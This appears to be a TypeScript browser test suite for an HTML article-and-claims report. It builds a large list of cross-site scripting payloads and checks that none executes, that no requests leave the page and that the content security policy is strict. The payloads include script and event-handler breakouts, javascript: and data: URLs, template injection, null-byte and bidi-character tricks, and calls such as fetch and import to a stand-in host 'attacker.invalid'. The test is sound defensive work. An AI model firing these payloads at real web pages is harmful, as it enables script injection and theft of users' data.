import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { browserPath, openBrowser, openFile } from './browser.js';
import { madeArticle, pageOf } from './made.js';

/** What a payload tries to run: it would show as a dialog, a request or a variable. */
const deeds = [
  'window.ran=1',
  'alert(1)',
  "fetch('http://attacker.invalid/')",
  "import('http://attacker.invalid/a.js')",
  "location='http://attacker.invalid/'",
];

/** Ways out of text, attributes, scripts, styles, addresses, comments and templates. */
const exits: readonly ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `</script><script>${deed}</script>`,
  (deed) => `</SCRIPT ><ScRiPt>${deed}//`,
  (deed) => `<!--<script>${deed}</script>-->`,
  (deed) => `--><script>${deed}</script><!--`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `"><img src=x onerror=${deed}>`,
  (deed) => `' onmouseover='${deed}' x='`,
  (deed) => `" autofocus onfocus="${deed}" x="`,
  (deed) => `<svg onload=${deed}>`,
  (deed) => `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
  (deed) => `<svg><a xlink:href="javascript:${deed}"><text>x</text></a></svg>`,
  (deed) => `<math><mi xlink:href="data:text/html,<script>${deed}</script>">`,
  (deed) => `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
  (deed) => `<details open ontoggle=${deed}>`,
  (deed) => `<video><source onerror=${deed}></video>`,
  (deed) => `<body onload=${deed}>`,
  (deed) => `<link rel=stylesheet href="http://attacker.invalid/s.css" onload=${deed}>`,
  (deed) => `<style>@import 'http://attacker.invalid/${deed.length}.css';</style>`,
  (deed) => `</style><script>${deed}</script>`,
  (deed) => `<base href="http://attacker.invalid/${deed.length}/">`,
  (deed) => `<meta http-equiv=refresh content="0;url=javascript:${deed}">`,
  (deed) => `<form action="javascript:${deed}"><button autofocus>x</button></form>`,
  (deed) => `<object data="data:text/html,<script>${deed}</script>"></object>`,
  (deed) => `<embed src="javascript:${deed}">`,
  (deed) => `javascript:${deed}`,
  (deed) => `JaVaScRiPt:${deed}//http://a.invalid`,
  (deed) => `\u0001javascript:${deed}`,
  (deed) => `data:text/html,<script>${deed}</script>`,
  (deed) => `vbscript:${deed}`,
  (deed) => `</title><script>${deed}</script>`,
  (deed) => `</textarea><script>${deed}</script>`,
  (deed) => `{{constructor.constructor('${deed.replaceAll("'", '"')}')()}}`,
  (deed) => `\${${deed}}`,
  (deed) => `\u202e<script>${deed}</script>\u2066`,
  (deed) => `<scr\u0000ipt>${deed}</scr\u0000ipt>`,
  (deed) => `&lt;script&gt;${deed}&lt;/script&gt;`,
  (deed) => `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
  (deed) => `__proto__"><img src=x onerror=${deed}>`,
];

const payloads = exits.flatMap((exit) => deeds.map(exit));

/** An article that says the payload wherever it can. */
function hostileArticle(payload: string, at: number) {
  const text = `${payload}\n${payload}说,产量达12${payload},比上年多。\n结尾${payload}`;
  const named = { subject: payload, unit: payload, speaker: payload, rule: payload, flags: [payload] };
  const claims = [{ quote: `产量达12${payload}`, number: `12${payload}`, ...named }];
  const message = { severity: 'warning', code: 'a/b', file: payload, text: payload, hint: payload } as const;
  return madeArticle(`${at} ${payload}`, text, claims, {
    title: payload,
    file: payload,
    url: payload,
    publishedAt: '2025-08-01',
    damage: [{ span: [0, 2], repaired: payload, candidates: [payload] }],
    mentions: [{ span: [1, 3], type: 'number', reading: payload, foundBy: payload }],
    ledger: [{ span: [1, 3], reason: null, mention: 0, isClaimed: false }],
    verdicts: [{ verdict: 'unverified', problems: [message] }],
    messages: [message],
  });
}

describe.skipIf(browserPath === null)('hostile articles', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await openBrowser();
  }, 60_000);
  afterAll(() => browser.close());

  test(`${payloads.length} payloads in every place, and none runs`, { timeout: 120_000 }, async () => {
    expect(payloads.length).toBeGreaterThanOrEqual(200);
    const name = payloads[1] ?? '';
    const message = { severity: 'error', code: 'a/b', file: name, text: name, hint: name } as const;
    const html = pageOf(payloads.map(hostileArticle), { name, tool: name, messages: [message] });
    const { page, misdeeds, close } = await openFile(browser, html);
    // Everything that a facet holds, the charts, the list of claims.
    for (let more = 0; more < 20; more += 1) {
      const button = page.locator('#filters details[open] > button').first();
      if ((await button.count()) === 0) break;
      await button.click();
    }
    await page.keyboard.press('3');
    await page.waitForSelector('#claims-0');
    await page.keyboard.press('End');
    await page.keyboard.press('l');
    await page.keyboard.press('m');
    // Each claim of each article, with all layers on.
    const opened = await page.evaluate(async (count) => {
      const cards = new Set<string>();
      for (let at = 0; at < count; at += 1) {
        document.dispatchEvent(new KeyboardEvent('keydown', { key: 'j', bubbles: true }));
        await new Promise(requestAnimationFrame);
        while (document.querySelector('.claim-card') === null) await new Promise(requestAnimationFrame);
        cards.add(location.hash);
      }
      return cards.size;
    }, payloads.length);
    expect(opened).toBe(payloads.length);
    expect(await page.evaluate(() => location.hash)).toContain(`article=${payloads.length - 1}`);
    expect(await page.locator('.claim-card').innerText()).toContain('12');
    expect(await page.evaluate(() => 'ran' in window)).toBe(false);
    // Nothing of a payload became an element of the page.
    expect(
      await page
        .locator('#page :is(img, script, style, iframe, object, embed, video, math, base, meta, link)')
        .count(),
    ).toBe(0);
    expect(
      await page.locator('a[href^="javascript" i], a[href^="data" i], a[href^="vbscript" i]').count(),
    ).toBe(0);
    await page.pdf();
    expect(misdeeds).toEqual({ dialogs: [], requests: [], console: [], windows: [] });
    await close();
  });

  test('characters that reorder or hide others can be seen', async () => {
    const text = '价格为\u202e元21\u202c,共12元\u200b整。';
    const article = madeArticle('a\u202eb', text, [
      { quote: '共12元\u200b整', number: '12元', subject: '价\u2066格' },
    ]);
    const { page, close } = await openFile(browser, pageOf([article], { name: 'r\u202eun' }), {
      hash: '#page=articles&article=0&claim=0',
    });
    await page.waitForSelector('.claim-card');
    const marks = (where: string): Promise<string[]> => page.locator(`${where} .hidden-mark`).allInnerTexts();
    expect(await marks('.article-text')).toEqual(['RLO', 'PDF', 'ZWSP']);
    expect(await marks('.article-head h2')).toEqual(['RLO']);
    expect(await marks('.row-title')).toEqual(['RLO']);
    expect(await marks('.brand h1')).toEqual(['RLO']);
    expect(await marks('.claim-card .statement')).toEqual(['LRI']);
    expect(await page.title()).toContain('⟦U+202E⟧');
    await close();
  });

  test('only its own script and style may run', () => {
    const html = pageOf([madeArticle('a', '产量达12吨。', [])]);
    const policy = /Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? '';
    expect(policy).toMatch(
      /^default-src 'none'; script-src 'sha256-[\w+/=]+'; style-src 'sha256-[\w+/=]+'; base-uri 'none'; form-action 'none'$/,
    );
  });
});
